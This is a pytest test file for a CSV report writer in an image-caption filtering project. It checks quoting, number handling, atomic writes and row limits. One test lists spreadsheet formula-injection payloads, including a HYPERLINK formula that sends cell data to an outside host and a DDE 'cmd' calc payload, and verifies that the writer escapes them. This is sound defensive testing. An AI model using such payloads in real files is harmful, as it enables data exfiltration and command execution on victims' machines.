"""The table of a report: what spreadsheets and programs read in it."""

import csv

import pytest

from blip_jax.capfilt import text_table


def row(text, key="a", prob=0.75):
  return {
    "key": key,
    "source": "web",
    "text": text,
    "itm_prob": prob,
    "reason": "below_threshold",  # of the job, which the table does not show
    "image": "images/a.png",
    "seed": 0,
  }


def read(path):
  with open(path, encoding="utf-8", newline="") as file:
    return [*csv.DictReader(file)]


def test_each_text_has_a_row(tmp_path):
  path = tmp_path / "report.csv"
  with text_table.open_table(path) as add:
    add([row("a dog"), row('a "big", dog\nand é', prob=None)], ["", "empty"])
    add([row("a cat", key="b")], [""])
    assert not path.exists()
  first, second, third = read(path)
  assert first == {
    "key": "a",
    "source": "web",
    "text": "a dog",
    "itm_prob": "0.75",
    "kept": "True",
    "reason": "",
    "image": "images/a.png",
  }
  assert second["text"] == 'a "big", dog\nand é'
  assert (second["itm_prob"], second["kept"]) == ("", "False")
  assert second["reason"] == "empty"
  assert third["key"] == "b"


@pytest.mark.parametrize(
  "text",
  [
    '=HYPERLINK("http://a.b/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r\n=1",
    " =1",
    "\uff1d1",
  ],
)
def test_no_text_is_a_formula(tmp_path, text):
  path = tmp_path / "report.csv"
  with text_table.open_table(path) as add:
    add([row(text, key=text), row(f"a{text}")], ["", ""])
  first, second = read(path)
  assert first["text"] == first["key"] == f"'{text}"
  assert second["text"] == f"a{text}"


def test_numbers_stay_numbers(tmp_path):
  path = tmp_path / "report.csv"
  with text_table.open_table(path) as add:
    add([row("a", prob=-1e-9)], [""])
  assert float(read(path)[0]["itm_prob"]) == -1e-9


def test_the_table_is_written_completely_or_not_at_all(tmp_path):
  path = tmp_path / "report.csv"
  path.write_text("old")
  with pytest.raises(KeyboardInterrupt), text_table.open_table(path) as add:
    add([row("a dog")], [""])
    raise KeyboardInterrupt
  assert path.read_text() == "old"
  assert [*tmp_path.iterdir()] == [path]


def test_the_table_is_not_longer_than_spreadsheets_open(tmp_path, monkeypatch):
  monkeypatch.setattr(text_table, "MAX_ROWS", 3)
  path = tmp_path / "report.csv"
  with text_table.open_table(path) as add:
    for _ in range(3):
      add([row("a"), row("b")], ["", ""])
  assert [line["text"] for line in read(path)] == ["a", "b", "a"]
